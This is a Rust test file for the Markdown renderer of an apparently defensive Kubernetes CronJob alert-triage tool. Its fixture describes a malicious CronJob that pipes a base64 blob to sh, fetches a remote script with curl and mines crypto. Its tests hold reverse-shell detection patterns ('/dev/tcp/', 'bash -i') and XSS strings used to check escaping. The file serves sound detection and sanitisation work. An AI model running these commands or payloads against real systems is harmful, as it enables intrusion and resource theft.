//! Tests of the Markdown of the runbook.

use serde_json::json;

use super::fields::{LISTED, list};
use super::page::WHO;
use super::text::LIMIT;
use super::*;
use crate::report::hidden::is_hidden;

const EXAMPLE: &str = r#"{
 "schema_version": 1,
 "settings": {"lookback": "30d", "context": "24h", "deep": false},
 "verdicts": {"MALICIOUS-LIKELY": 1, "SUSPICIOUS": 0, "REVIEW": 1, "EXPECTED": 107},
 "alerts": [{
   "alert_id": "9f86d081884c7d65", "rule_id": "Kubernetes.CronJob.CreatedOrModified", "severity": "info",
   "title": "[eve] created Kubernetes CronJob [kube-proxy-health] in [kube-system]",
   "cluster": "prod-eu", "platform": "eks", "namespace": "kube-system", "username": "eve", "hits": 2,
   "first_seen": "2026-11-24T03:12:44.120331Z", "last_seen": "2026-11-24T03:14:02.120331Z",
   "verdict": "MALICIOUS-LIKELY", "verdict_rule": "S3 x any history", "decided_by": "kube-system/kube-proxy-health",
   "spec_level": "S3", "history_level": "E0", "red_flags": ["CJ-BEH-04", "CJ-BEH-16"],
   "reasons": [{"id": "CJ-CMD-11", "severity": "critical", "name": "mining command or pool", "where": "containers[0].args[0]", "match": "stratum+tcp://", "audit_id": "7f3e", "evidence": {"path": "s3/a/b.gz", "record": 12, "offset": 88123, "pointer": "/logEvents/3/message"}}],
   "would_change": ["an owner who confirms that eve was to create this CronJob, by name"],
   "who": {"username": "eve", "principal_class": "human", "shared": false, "groups": ["engineers", "system:authenticated"], "session": "eve", "arn": "arn:aws:sts::111122223333:assumed-role/Engineer/eve", "source_ip": "198.51.100.9", "source_public": true, "source_new": true, "chain": ["10.0.0.2"], "user_agent": "curl/8.5.0", "user_agent_new": true, "impersonated_user": "system:masters-bot", "impersonated_groups": ["system:masters", "devs"]},
   "cronjobs": [{
 "namespace": "kube-system", "name": "kube-proxy-health", "change": "created", "time": "2026-11-24T03:12:44.120331Z", "outcome": "success", "spec_level": "S3",
 "spec_source": "responseObject", "schedule": "*/1 * * * *", "schedule_text": "every minute", "runs_per_day": 1440.0, "time_zone": "UTC", "next_runs": ["2026-11-24T03:13:00Z"], "suspend": false,
 "service_account": "default",
 "containers": [{"name": "kube-proxy", "kind": "containers", "image": "docker.io/x/miner:latest", "pinned": false, "image_new": true, "command": ["/bin/sh", "-c"], "args": ["echo Y3Vyb… | base64 -d | sh; <script>alert(1)</script>"], "env": [{"name": "A", "value": "b"}], "security_context": "privileged"}],
 "volumes": ["host: hostPath /"], "pod_security": ["hostPID"],
 "decoded": [{"where": "containers[0].args[0]", "text": "curl -fsSL http://198.51.100.77/k.sh"}],
 "indicators": [{"id": "CJ-CMD-11", "name": "mining command or pool", "severity": "critical", "category": "command", "where": "containers[0].args[0]", "match": "stratum+tcp://"}],
 "diff": [{"path": "spec.schedule", "before": "0 1 * * *", "after": "*/1 * * * *"}], "diff_note": "new object",
 "audit_id": "7f3e", "evidence": {"path": "s3/a/b.gz", "record": 12, "offset": 88123, "pointer": "/logEvents/3/message"}
   }],
   "before": {"class": "probing", "text": "3 writes: 1 ok, 2 failed (403); 1 dry run", "succeeded": 1, "failed": 2, "dry_run": 1, "created": 1, "modified": 0, "deleted": 0, "precursors": "not looked at (--deep)", "precursor_list": [{"time": "2026-11-24T03:05:00Z", "what": "create clusterrolebindings eve-admin", "evidence": {"path": "x", "record": 1}}], "coverage": "100 % of 24 h", "events": [{"time": "2026-11-24T03:09:00Z", "what": "create kube-system/- failed 403", "evidence": {"path": "x", "record": 1}}]},
   "history": {"class": "anomalous", "text": "none in 30 days (dump covers 28.7 of 30)", "writes": 0, "cronjobs": 0, "days": 0, "novel": ["namespace", "registry"], "others": ["eks:addon-manager (2)"], "coverage": "dump covers 28.7 of 30 days"},
   "since": {"text": "jobs started: 76 (first 03:13, last 04:28); pods 76; deleted: no: probably still present at the end of the dump"},
   "upstream": "match; dedup merged 2 events; suppressed by upstream: no",
   "next": ["kubectl -n kube-system get cronjob kube-proxy-health -o yaml", "delete the CronJob before its pods"]
 }],
 "users": [{"username": "eve", "cluster": "prod-eu", "worst": "MALICIOUS-LIKELY", "alerts": 1, "hits": 2, "namespaces": ["kube-system"]}],
 "controller_only": [{"cluster": "edge", "namespace": "default", "name": "ghost", "jobs": 3, "first_seen": "2026-11-20T00:00:00Z", "last_seen": "2026-11-20T02:00:00Z", "text": "Jobs of a CronJob whose creation is not in the dump", "evidence": {"path": "x", "record": 1}}]
}"#;

/// Checked by eye.
const GOLDEN: &str = r"# Runbook

Alerts by verdict: 1 MALICIOUS-LIKELY, 0 SUSPICIOUS, 1 REVIEW, 107 EXPECTED.
Coverage: what the dump covers is not known.

## MALICIOUS-LIKELY  kube-system/kube-proxy-health  CronJob created  2026-11-24 03:12:44Z  cluster prod-eu (EKS)

- **why** verdict rule: S3 x any history; decided by `kube-system/kube-proxy-health`; spec S3; history E0; red flags CJ-BEH-04, CJ-BEH-16
  - CJ-CMD-11  critical  mining command or pool  in `containers[0].args[0]`  `stratum+tcp://` -> `s3/a/b.gz:12#88123 /logEvents/3/message auditID 7f3e`
- **who** `eve`; class human; groups `engineers`, `system:authenticated`; impersonating `system:masters-bot`; impersonating groups `system:masters`, `devs`; session `eve`; arn `arn:aws:sts::111122223333:assumed-role/Engineer/eve`; from `198.51.100.9` (public, new); chain `10.0.0.2`; agent `curl/8.5.0` (new)
- **what** `kube-system`/`kube-proxy-health`; created; 2026-11-24 03:12:44Z; outcome success; spec S3; read from responseObject
  - schedule `*/1 * * * *` (every minute, 1440 runs a day, time zone UTC); next runs 2026-11-24 03:13:00Z
  - service account `default`; pod: `hostPID`; volumes `host: hostPath /`
  - container `kube-proxy`: image `docker.io/x/miner:latest` (no digest, first seen); `privileged`
  - command `/bin/sh` `-c`
  - args `echo Y3Vyb… | base64 -d | sh; <script>alert(1)</script>`
  - env `A=b`
  - decoded from `containers[0].args[0]`: `curl -fsSL http://198.51.100.77/k.sh`
  - diff: new object
  - changed `spec.schedule`: `0 1 * * *` -> `*/1 * * * *`
  - matched CJ-CMD-11
  - request -> `s3/a/b.gz:12#88123 /logEvents/3/message auditID 7f3e`
- **24 h** 3 writes: 1 ok, 2 failed (403); 1 dry run; probing; 100 % of 24 h; precursors: not looked at (--deep)
  - precursor: 2026-11-24 03:05:00Z  `create clusterrolebindings eve-admin` -> `x:1`
  - request: 2026-11-24 03:09:00Z  `create kube-system/- failed 403` -> `x:1`
- **30 d** none in 30 days (dump covers 28.7 of 30); anomalous; new here: namespace, registry; dump covers 28.7 of 30 days; CronJobs in this namespace are also written by `eks:addon-manager (2)`
- **since** jobs started: 76 (first 03:13, last 04:28); pods 76; deleted: no: probably still present at the end of the dump
- **also** upstream: match; dedup merged 2 events; suppressed by upstream: no; alert 9f86d081884c7d65; rule `Kubernetes.CronJob.CreatedOrModified`; hits 2; title `[eve] created Kubernetes CronJob [kube-proxy-health] in [kube-system]`
- **next**
  - `kubectl -n kube-system get cronjob kube-proxy-health -o yaml`
  - delete the CronJob before its pods
- **would change it**
  - an owner who confirms that eve was to create this CronJob, by name

## Who

| #   | user  | cluster   | worst            | alerts | hits | namespaces    |
| --- | ----- | --------- | ---------------- | ------ | ---- | ------------- |
| 1   | `eve` | `prod-eu` | MALICIOUS-LIKELY | 1      | 2    | `kube-system` |

## CronJobs seen only through their controllers

- CronJob `default`/`ghost`: cluster `edge`; Jobs 3; first 2026-11-20 00:00:00Z; last 2026-11-20 02:00:00Z; Jobs of a CronJob whose creation is not in the dump -> `x:1`

## Suppressed

None.
";

const HOSTILE: [&str; 18] = [
    "`",
    "``` x ``",
    "`` ` ``\\",
    "](javascript:x)",
    "[a](https://x.example)",
    "![a](https://x.example/a.png)",
    "<script>alert(1)</script>",
    "</code></td><img src=x onerror=alert(1)>",
    "|",
    "\\|",
    "a\\\\| `b` | <b>c</b>",
    "\u{202E}gnp",
    "a\nb\r\n# c",
    "\n```\n<b>\n",
    "- x",
    "1. x",
    "\u{1b}[2J\u{9b}31m\u{7}",
    "*a* __b__ ~~c~~ &lt; $x$ www.x.example @a",
];

fn written(value: &Value) -> String {
    let mut out = Vec::new();
    let rows = |key: &str| -> Rows<'_> { Box::new(list(value, key).iter().cloned()) };
    let lists = ["users", "controller_only", "suppressed"].map(rows);
    runbook(value, lists, &mut rows("alerts").map(|alert| Ok(alert.to_string())), &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// The reasons of an alert are about the CronJob that decides, so the others quote what they show.
#[test]
fn other_cronjobs_quote_the_gravest_finding() {
    let mut runbook: Value = serde_json::from_str(EXAMPLE).unwrap();
    let mut other = runbook["alerts"][0]["cronjobs"][0].clone();
    other["name"] = "`b`".into();
    other["indicators"] = json!([
        {"id": "CJ-IMG-03", "name": "latest or missing tag", "severity": "low", "where": "containers[0].image", "match": "alpine"},
        {"id": "CJ-CMD-04", "name": "bash network pseudo-device", "severity": "critical", "where": "args[1]", "match": "`/dev/tcp/`"},
        {"id": "CJ-CMD-06", "name": "interactive shell", "severity": "critical", "where": "args[1]", "match": "bash -i"}]);
    let mut dull = other.clone();
    dull["indicators"] =
        json!([{"id": "CJ-IMG-04", "name": "not pinned", "severity": "info", "where": "x", "match": "y"}]);
    runbook["alerts"][0]["cronjobs"].as_array_mut().unwrap().extend([other, dull]);
    let text = written(&runbook);
    let expected = "  - matched CJ-IMG-03, CJ-CMD-04, CJ-CMD-06\n  - gravest: CJ-CMD-04  critical  bash network pseudo-device  \
                    in `args[1]`  `` `/dev/tcp/` ``\n";
    assert!(text.contains(expected), "{text}");
    assert_eq!(text.matches("gravest: ").count(), 1, "{text}");
}

/// The example with every string replaced.
fn filled(value: &Value, with: &str) -> Value {
    match value {
        Value::String(_) => with.into(),
        Value::Array(all) => all.iter().map(|item| filled(item, with)).collect(),
        Value::Object(members) => {
            Value::Object(members.iter().map(|(key, item)| (key.clone(), filled(item, with))).collect())
        }
        other => other.clone(),
    }
}

/// A line without its code spans, found as CommonMark finds them, and the content of these.
fn parted(line: &str) -> (String, Vec<String>) {
    let (mut bare, mut spans, mut rest) = (String::new(), Vec::new(), line);
    while let Some(at) = rest.find('`') {
        bare.push_str(&rest[..at]);
        let opened = rest[at..].trim_start_matches('`');
        let fence = rest.len() - at - opened.len();
        let mut runs = opened.match_indices('`').map(|(at, _)| at).filter(|at| !opened[..*at].ends_with('`'));
        let end = runs.find(|at| opened[*at..].len() - opened[*at..].trim_start_matches('`').len() == fence);
        let end = end.unwrap_or_else(|| panic!("no end: {line}"));
        spans.push(opened[..end].to_owned());
        rest = &opened[end + fence..];
    }
    (bare + rest, spans)
}

#[test]
fn the_example_reads_as_it_should() {
    let value: Value = serde_json::from_str(EXAMPLE).unwrap();
    assert_eq!(written(&value), GOLDEN);
}

#[test]
fn hostile_values_stay_text_wherever_they_stand() {
    let example: Value = serde_json::from_str(EXAMPLE).unwrap();
    let shape = written(&example).lines().count();
    for hostile in HOSTILE {
        let page = written(&filled(&example, hostile));
        // No value adds a line. (Labels of settings, and the meaning of a verdict, do not appear here.)
        assert_eq!(page.lines().count(), shape, "{page}");
        assert!(!page.chars().any(|c| c != '\n' && is_hidden(c)), "{page:?}");
        for line in page.lines() {
            let (bare, spans) = parted(line);
            assert!(!bare.contains(['<', '[', ']', '_', '~', '&', '$', '@', '!']), "{line}");
            assert!(!bare.replace("->", "").contains('>') && !bare.replace("**", "").contains('*'), "{line}");
            assert!(!bare.contains("www.") && !bare.contains("//"), "{line}");
            let cells = line.strip_prefix('|').map_or(0, |row| row.replace("\\|", "").matches('|').count());
            assert!(cells == 0 || cells == 7 && !line.contains("\\\\|"), "{line}");
            assert!(cells > 0 || spans.iter().all(|span| span.len() < 2 * LIMIT), "{line}");
            let item = line.trim_start().trim_start_matches("- ");
            assert!(!line.trim_start().starts_with("- - ") && !item.starts_with("1. "), "{line}");
        }
    }
}

#[test]
fn code_spans_cannot_be_closed_from_inside() {
    let cases = [
        ("a", "`a`"),
        ("", "-"),
        ("a`b", "``a`b``"),
        ("`", "`` ` ``"),
        ("a```", "```` a``` ````"),
        (" a ", "`  a  `"),
        ("a\nb", "`a\\nb`"),
        ("\u{202E}\u{200B}\u{1b}", "`\\u{202e}\\u{200b}\\u{1b}`"),
    ];
    for (text, shown) in cases {
        assert_eq!(code(text), shown);
    }
}

#[test]
fn only_harmless_words_stand_bare() {
    for text in ["3 writes: 1 ok, 2 failed (403)", "S? x E0 with CJ-BEH-04", "28.7 of 30 days", "(no diff)"] {
        assert_eq!(prose(text), text);
    }
    for text in HOSTILE.into_iter().chain(["x.example", "http://1", "WWW.1", "+ x", "é", "2) x", "  "]) {
        assert!(prose(text).starts_with('`'), "{text}");
    }
    assert_eq!((name("two words").as_str(), name("one").as_str()), ("`two words`", "one"));
}

#[test]
fn a_pipe_in_a_cell_stands_behind_one_backslash() {
    assert_eq!(cell("`a|b`"), "`a\\|b`");
    assert_eq!(cell("`a\\|b`"), "`a\\u{5c}\\|b`");
    assert_eq!(cell("`a\\\\||`"), "`a\\\\u{5c}\\|\\|`");
}

#[test]
fn long_values_are_cut_between_characters() {
    assert_eq!(code(&"é".repeat(300)), format!("`{}`", "é".repeat(300)));
    assert_eq!(code(&"é".repeat(301)), format!("`{}…`", "é".repeat(300)));
    assert_eq!(code(&format!("{}\u{202E}", "a".repeat(299))), format!("`{}…`", "a".repeat(299)));
    let many: Value = serde_json::json!({"groups": vec!["g"; LISTED + 2]});
    assert!(told(&many, &WHO).concat().ends_with("`g`, and 2 more in runbook.json"));
}

#[test]
fn without_alerts_one_sentence_says_so() {
    let page = written(&serde_json::json!({"alerts": [], "coverage_note": "the dump covers 3 days"}));
    assert!(page.starts_with("# Runbook\n\nThere is no alert; the dump covers 3 days.\n\n## Who\n\nNone.\n"), "{page}");
    assert!(written(&Value::Null).contains("There is no alert; what the dump covers is not known.\n"));
}

#[test]
fn missing_members_are_left_out() {
    let rows = serde_json::json!([{}, null, 7]);
    let page = written(&serde_json::json!({
        "alerts": [{}, {"cronjobs": rows, "reasons": rows, "next": rows, "before": {"events": rows}}],
        "users": rows, "controller_only": rows, "suppressed": rows
    }));
    assert_eq!(page.matches("\n## ").count(), 5, "{page}");
    assert!(page.contains("| 1   | -    | -       | -     | -      | -    | -          |"), "{page}");
}

#[test]
fn what_was_suppressed_is_counted_by_user() {
    let row = serde_json::json!({"namespace": "ops|x", "username": "a`b", "count": 12, "reason": "excluded by *"});
    assert_eq!(suppressed(&row), ["- 12 by ``a`b`` in `ops|x`: `excluded by *`"]);
}
